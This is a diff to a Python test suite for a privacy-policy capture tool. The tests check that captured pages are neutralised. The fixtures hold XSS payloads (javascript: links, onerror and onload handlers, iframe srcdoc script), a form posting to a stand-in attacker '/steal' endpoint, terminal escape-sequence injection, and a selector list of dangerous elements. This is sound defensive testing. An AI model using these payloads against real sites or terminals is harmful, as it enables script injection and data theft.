@@ -5,7 +5,11 @@ stored capture, its exact bytes or its text."""
 from __future__ import annotations
 
 import hashlib
+import os
+import pty
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 from click.testing import CliRunner
@@ -30,6 +34,7 @@ def hostile_page(beacon: str) -> bytes:
     extra = f"""<h2>5. Hostile</h2><p style="background:url({EVIL}/inline.png)">Images
 <img src="{beacon}?img" srcset="{EVIL}/2x.png 2x" alt="the beacon" onerror="window.__xss = 2" width="4000">
 <a href="javascript:window.__xss = 3">javascript link</a> <a href="/terms">our terms</a>
+<q cite="javascript:window.__xss = 7">quoted</q> <blockquote cite="{EVIL}/cited">quoted at length</blockquote>
 <svg onload="window.__xss = 4"><image href="{EVIL}/svg.png"/></svg></p>
 <iframe src="{EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__xss = 5&lt;/script&gt;"></iframe>
 <form action="{EVIL}/steal" method="post"><input name="email" value="you@example.com"><button>Send</button></form>
@@ -45,7 +50,8 @@ INERT = """() => ({
   visible: !!document.querySelector('.capture-banner') && document.querySelector('.capture-banner').getBoundingClientRect().height > 0,
   text: document.querySelector('.captured').innerText,
   dangerous: document.querySelectorAll('script, iframe, form, input, button, object, embed, video, svg, base, link, '
-    + 'style:not(head style), meta[http-equiv="refresh"], [style], [srcset], [background], [poster], img[src]').length,
+    + 'style:not(head style), meta[http-equiv="refresh"], [style], [srcset], [background], [poster], img[src], '
+    + '[cite]').length,
   links: [...document.querySelectorAll('.captured a[href]')].map(a => a.getAttribute('href')),
   images: [...document.querySelectorAll('.captured img')].map(img => img.alt),
   url: location.href,
@@ -95,6 +101,28 @@ def test_a_hostile_live_capture_is_copied_inert_and_opens_in_chromium(tmp_path, 
     assert result.exit_code == 0 and result.stdout_bytes == served
 
 
+def test_capture_raw_refuses_to_write_fetched_bytes_to_a_terminal(tmp_path, site):
+    site.pages["/privacy"] = Page(policy_html(extra="<p>\x1b]2;owned\x07\x1b[2J</p>"))  # a title, a cleared screen
+    config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy")]}])
+    assert run_cli(config, "check").exit_code == 0
+    leader, follower = pty.openpty()
+    try:
+        done = subprocess.run([sys.executable, "-m", "tracker", "--config", str(config), "capture", "1", "--raw"],
+                              stdout=follower, stderr=subprocess.PIPE, timeout=30, cwd=tmp_path)
+        os.close(follower)
+        shown = b""
+        while True:
+            try:  # what reached the terminal; EIO once it is all read and the terminal closed
+                shown += os.read(leader, 65536)
+            except OSError:
+                break
+    finally:
+        os.close(leader)
+    assert done.returncode == 1 and shown == b""
+    assert done.stderr.decode() == ("error: --raw writes the stored bytes: redirect it to a file, "
+                                    "e.g. > capture-1.html\n")
+
+
 def test_a_pdf_capture_gets_a_note_and_its_exact_bytes_a_text_capture_its_text(tmp_path, site):
     pdf = b"%PDF-1.4\r\n%\xe2\xe3\xcf\xd3\r\n1 0 obj\n<< /Type /Catalog >>\x00\xff\nendobj\n%%EOF\n"
     site.pages["/privacy.pdf"] = Page(pdf, headers={"Content-Type": "application/pdf"})
@@ -136,6 +164,7 @@ def test_the_demo_change_page_links_both_captures_to_copies_that_open(tmp_path, 
         seen, requests = open_recorded(browser, (change.parent / evidence["copy"]).as_uri(), width=390)
         assert requests == [(change.parent / evidence["copy"]).as_uri()] and seen["xss"] is None
         assert seen["visible"] and sha256 in seen["banner"] and "krop-demo.warc.gz" in seen["banner"]
+        assert str(DEMO_WARC.parent) not in seen["banner"] + evidence["text"]  # where it lies here is private
         assert policy_words in seen["text"]
     assert "2019-07-01 12:00 UTC" in cited[0]["text"] and "2025-06-03 09:30 UTC" in cited[1]["text"]
 
@@ -192,7 +221,7 @@ def test_tracker_capture_prints_a_summary_its_text_and_its_exact_bytes(tmp_path)
     assert error_page.exit_code == 1 and "HTTP 503 answer" in error_page.stderr
 
 
-def test_a_copy_is_written_once_and_removed_when_no_page_cites_it(tmp_path, site):
+def test_a_copy_is_written_once_and_live_checks_of_the_same_text_write_no_copy(tmp_path, site):
     site.pages["/privacy"] = Page(policy_html())
     config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy")]}])
     out = tmp_path / "reports"
@@ -201,11 +230,22 @@ def test_a_copy_is_written_once_and_removed_when_no_page_cites_it(tmp_path, site
     render(config, out)
     first = (copies / "1.html").stat().st_mtime_ns
 
-    assert run_cli(config, "check").exit_code == 0  # the same text: capture 2 is the version's last
-    render(config, out)
-    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "2.html"]
-    assert run_cli(config, "check").exit_code == 0  # capture 3 is now the last: no page cites capture 2
-    line = render(config, out)
-    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "3.html"] and "1 removed" in line
+    for capture in (2, 3):  # the same text: each check is the version's new last capture
+        assert run_cli(config, "check").exit_code == 0
+        line = render(config, out)
+        assert sorted(p.name for p in copies.iterdir()) == ["1.html"] and "removed" not in line
+        version = (out / "acme" / "version-1.html").read_text()
+        last = re.search(r"<dl class=\"evidence\">.*?</dl>", version.split("last capture of this version")[1], re.S)[0]
+        assert f"tracker capture {capture}</code>" in last and "none kept with these reports" in last
+        assert 'href="captures/' not in last and re.search(r"[0-9a-f]{64}", last)  # cited by its hash
     assert (copies / "1.html").stat().st_mtime_ns == first  # written once
-    assert "0 page(s) written" in render(config, out)
+
+    site.pages["/privacy"] = Page(policy_html(retention="90 days"))
+    assert run_cli(config, "check").exit_code == 0  # capture 4: version 2; the change ends at 3 and 4
+    render(config, out)
+    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "3.html", "4.html"]
+    assert 'href="captures/3.html"' in (out / "acme" / "version-1.html").read_text()  # kept for the change
+    assert run_cli(config, "check").exit_code == 0
+    line = render(config, out)
+    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "3.html", "4.html"] and "removed" not in line
+    assert (copies / "1.html").stat().st_mtime_ns == first
